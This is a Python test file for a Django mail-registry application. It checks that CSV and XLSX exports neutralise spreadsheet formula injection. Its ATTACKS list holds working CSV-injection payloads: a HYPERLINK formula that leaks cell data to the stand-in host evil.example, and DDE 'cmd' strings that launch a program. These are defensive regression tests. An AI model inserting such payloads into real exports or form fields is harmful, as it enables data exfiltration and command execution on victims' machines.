"""Text from outside (a letter's subject, an e-mail's Subject, an API client, a label typed in)
never reaches a spreadsheet as a formula: every CSV and XLSX export neutralises cells starting
with = + - @, tab or carriage return (courrier.spreadsheets), each export tested here as a
person downloads it."""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from archives import retention
from courrier.models import Category, Channel, MailStatus
from courrier.spreadsheets import neutral
from courrier.tests.factories import DocumentTypeFactory, make_mail
from indexing.services import rebuild
from stats.tests.conftest import TODAY, october  # noqa: F401 (the hand-counted October)

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_text(attack):
    assert neutral(attack) == "'" + attack


@pytest.mark.parametrize("number", ["-3", "+2,5", "-12.75", "-1 250,5", "-33,3 %", "2026-12-07"])
def test_numbers_and_dates_stay_as_they_are(number):
    assert neutral(number) == number


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def no_formula(cells: list[str]) -> bool:
    return not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells if cell)


def test_the_search_export(client, agent, org, search_backend):
    for attack in ATTACKS[:3]:
        make_mail(
            subject=attack + " lampadaire",
            destination_entity=org.voirie,
            override={"status": MailStatus.IN_PROGRESS},
        )
    rebuild()
    client.force_login(agent)
    response = client.get(reverse("search"), {"text": "lampadaire", "format": "csv"})
    rows = read_csv(b"".join(response.streaming_content))
    subjects = sorted(row[1] for row in rows[1:])
    assert subjects == sorted("'" + attack + " lampadaire" for attack in ATTACKS[:3])
    assert all(no_formula(row) for row in rows)


def test_the_outgoing_post_register(client, agent, org):
    make_mail(
        subject=ATTACKS[1],
        category=Category.OUTGOING,
        channel=Channel.PAPER,
        destination_entity=org.voirie,
    )
    client.force_login(agent)
    rows = read_csv(client.get(reverse("post_register") + "?format=csv").content)
    assert rows[1][2] == "'" + ATTACKS[1] and all(no_formula(row) for row in rows)


def test_the_elimination_proposals(client, archivist, clerk, org):
    kind = DocumentTypeFactory.create(
        code="facture", label=ATTACKS[4], retention_duration="P1Y", final_disposition="destroy"
    )
    closed = datetime.datetime(2020, 3, 10, 12, tzinfo=datetime.UTC)
    make_mail(
        actor=clerk,
        subject="Facture",
        document_type=kind,
        destination_entity=org.voirie,
        arrival_date=closed.date(),
        override={"status": MailStatus.CLOSED, "closing_date": closed},
    )
    retention.propose_eliminations()
    client.force_login(archivist)
    rows = read_csv(client.get(reverse("archives_eliminations") + "?format=csv").content)
    assert rows[1][1] == "'" + ATTACKS[4] and all(no_formula(row) for row in rows)


def test_the_statistics_tables_in_csv_and_xlsx(client, manager, org, october):  # noqa: F811
    org.voirie.label = ATTACKS[0]
    org.voirie.save()
    type(october["A"].document_type).objects.filter(code="reclamation").update(label=ATTACKS[2])
    client.force_login(manager)
    with time_machine.travel(TODAY):
        sheet = client.get(
            reverse("statistics_export", args=["entities", "xlsx"]) + "?month=2026-10"
        )
        text = client.get(reverse("statistics_export", args=["types", "csv"]) + "?month=2026-10")
    book = load_workbook(io.BytesIO(sheet.content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    voirie = next(cell for cell in cells if cell.value == ATTACKS[0])
    assert voirie.data_type == "s"  # text, shown as typed, never run
    assert not any(cell.data_type == "f" for cell in cells)
    rows = read_csv(text.content)
    assert ["'" + ATTACKS[2], "4", "2", "1", "50,0", "10,0", "10,0"] in rows


def test_every_export_in_the_code_goes_through_the_helper():
    """A new export written with csv.writer or openpyxl's append would skip the neutralising."""
    root = Path(__file__).resolve().parents[1]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root)
        if relative.parts[0].startswith((".venv", "bench")) or "tests" in relative.parts:
            continue
        if relative.as_posix() == "courrier/spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.writer\(|csv\.DictWriter\(|\bsheet\.append\(|\.cell\(", text):
            offenders.append(relative.as_posix())
    assert offenders == []
